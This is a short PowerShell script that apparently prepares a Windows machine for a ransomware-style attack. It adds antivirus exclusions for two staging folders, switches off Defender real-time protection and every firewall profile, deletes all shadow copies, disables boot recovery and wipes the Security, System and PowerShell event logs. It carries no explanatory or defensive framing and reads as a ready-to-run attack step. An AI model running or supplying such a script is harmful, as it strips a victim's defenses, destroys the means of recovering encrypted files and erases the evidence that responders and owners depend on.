#Requires -RunAsAdministrator
$paths = "$env:ProgramData\Updater", 'C:\Users\Public\Libraries'
foreach ($p in $paths) {
    Add-MpPreference -ExclusionPath $p
}
Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true
Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
netsh advfirewall set allprofiles state off

vssadmin.exe delete shadows /all /quiet
bcdedit.exe /set '{default}' recoveryenabled No
foreach ($log in 'Security', 'System', 'Windows PowerShell') {
    wevtutil.exe cl $log
}
